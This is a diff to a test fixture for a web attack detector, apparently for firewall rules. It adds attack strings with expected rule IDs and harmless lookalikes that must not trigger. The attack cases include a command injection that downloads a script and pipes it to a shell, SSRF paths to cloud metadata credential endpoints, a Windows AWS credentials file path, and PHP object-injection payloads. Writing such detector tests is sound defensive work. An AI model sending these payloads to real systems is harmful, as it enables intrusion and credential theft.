@@ -611,6 +611,29 @@ export const ATTACKS: DetectorCase[] = [
     '}}}{{async async=false}}{{groovy}}println("x" + (23 + 19)){{/groovy}}{{/async}}',
     "934170",
   ),
+  q("a command with an option after a lone double dash", "; call -- --help", "932100"),
+  q("a downloader dumping an address into a shell", "x;links -dump http://203.0.113.7/a.sh|sh", "932100"),
+  q("a metadata path after a one-slash address", "/169.254.169.254/latest/meta-data/", "934110"),
+  j("a metadata path behind an IPv6 address", "http://[fd00:ec2::254]/latest/meta-data/iam/", "934110"),
+  q(
+    "GCP's metadata path under another host name",
+    "http://metadata.internal.example/computeMetadata/v1/instance/",
+    "934110",
+  ),
+  q("a Windows user's cloud credentials file", "C:\\Users\\Administrator\\.aws\\credentials", "930120"),
+  j("a PHP object with a signed length", 'O:+14:"SugarCacheFile":1:{s:4:"file";s:9:"shell.php";}', "933170"),
+  j(
+    "a PHP object whose quotes are escaped in YAML",
+    'cache: !php/object "O:47:\\"Symfony\\X\\":2:{s:1:\\"x\\";i:1;}"',
+    "933170",
+  ),
+  j("a PHP object inside a serialized array", 'a:2:{i:0;s:4:"item";i:1;O:8:"Monolog\\X":1:{s:1:"x";i:1;}}', "933170"),
+  {
+    name: "a metadata path in a proxying route",
+    where: "path",
+    value: "/api/datasources/proxy/uid/x/latest/meta-data/iam/security-credentials/",
+    hit: ["934110"],
+  },
 ];
 
 export const BENIGN: DetectorCase[] = [
@@ -1060,4 +1083,15 @@ export const BENIGN: DetectorCase[] = [
   { name: "quoted cookie value", where: "cookie", value: 'prefs="a,b,c"; sid=abc123; note="x y"', hit: [] },
   { name: "unterminated quote in a cookie", where: "cookie", value: 'a="b; c=d', hit: [] },
   { name: "json prose", where: "json", value: "We'll meet at 5 o'clock; bring the union select documents.", hit: [] },
+  j("a lone double dash in a note after a command word", 'Pickup Thu; call before 3pm -- ask for "Big Mike"'),
+  j("links as a word in a technician's note", "Cust states clunk over bumps; verified. R&R arm & links; alignment OK."),
+  q("a metadata address named in prose without its path", "see the 169 254 docs"),
+  {
+    name: "a PHP serialized array in a forum's login cookie",
+    where: "cookie",
+    value:
+      'SMFCookie956=a:4:{i:0;s:5:"44812";i:1;s:40:"70033667a4b45958fe42b37d3d8d87ac5a1c08d7";i:2;i:1902438000;i:3;i:0;}',
+    hit: [],
+  },
+  q("a Windows path to a user's documents", "C:\\Users\\Mike\\Documents\\HP Tuners\\Logs\\pull3.hpl"),
 ];
